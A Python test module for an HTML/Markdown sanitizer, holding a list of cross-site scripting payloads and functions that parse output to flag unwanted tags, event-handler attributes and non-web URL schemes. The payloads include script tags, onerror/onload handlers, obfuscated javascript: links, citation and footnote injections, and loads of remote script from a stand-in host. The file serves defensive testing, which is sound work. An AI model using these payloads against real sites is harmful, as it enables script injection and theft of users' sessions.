"""Payloads that try to get a script into a page, of every family of tricks, and what a page may not hold."""

from __future__ import annotations

import re
from collections.abc import Iterable
from html import unescape

from selectolax.lexbor import LexborHTMLParser, LexborNode

PAYLOADS = [
    "<script>alert(1)</script>",
    "</p><ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](x\"onerror=alert(1)//)",
    "[x](https://a.b \"onmouseover=alert(1)\")",
    "[x](https://a.b '\" onmouseover=\"alert(1)')",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "`</code><img src=x onerror=alert(1)>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>'; ?>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<details open ontoggle=alert(1)><summary>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }}{% import 'os' as os %}",
    "[[ada|<img src=x onerror=alert(1)>]]",
    "[[ada|x\" onmouseover=\"alert(1)]]",
    "[x](https://a.b \"[[ada|y]]\")",
    "[x](https://a.b \"[@press-report, y]\")",
    "[@press-report, \"><img src=x onerror=alert(1)>]",
    "[@press-report, p. 3 <script>alert(1)</script>]",
    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "x[^a\"onclick=alert(1)]\n\n[^a\"onclick=alert(1)]: [y](javascript:alert(1))",
]  # fmt: skip

LINK_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "cite", "srcdoc", "data")
SCHEMES = ("http:", "https:", "mailto:")


def elements(html: str) -> list[LexborNode]:
    """Every element of a fragment as a browser would build it."""
    body = LexborHTMLParser(f"<!doctype html><body>{html}").body
    return [node for node in body.traverse(include_text=False) if node.tag not in ("body", "-comment")]


def shape(html: str) -> list[tuple[str, tuple[str, ...]]]:
    """The elements of a fragment with the names of their attributes."""
    return [(node.tag, tuple(sorted(node.attributes))) for node in elements(html)]


def dangers(html: str, tags: set[str]) -> list[str]:
    """Elements that are not wanted, attributes that run scripts, addresses of other schemes than the web's."""
    return dangers_in(elements(html), tags)


def dangers_in(nodes: Iterable[LexborNode], tags: set[str]) -> list[str]:
    """The same of elements that were parsed already."""
    found = []
    for node in nodes:
        if node.tag not in tags:
            found.append(f"<{node.tag}>")
        for name, value in node.attributes.items():
            if name.lower().startswith("on") or name.lower() in ("style", "srcdoc"):
                found.append(f"<{node.tag} {name}>")
            address = "".join(unescape(value or "").split()).lower()
            scheme = re.match(r"[a-z][a-z0-9+.-]*:", address)
            if name.lower() in LINK_ATTRIBUTES and scheme and scheme[0] not in SCHEMES:
                found.append(f"<{node.tag} {name}={address[:30]}>")
    return found
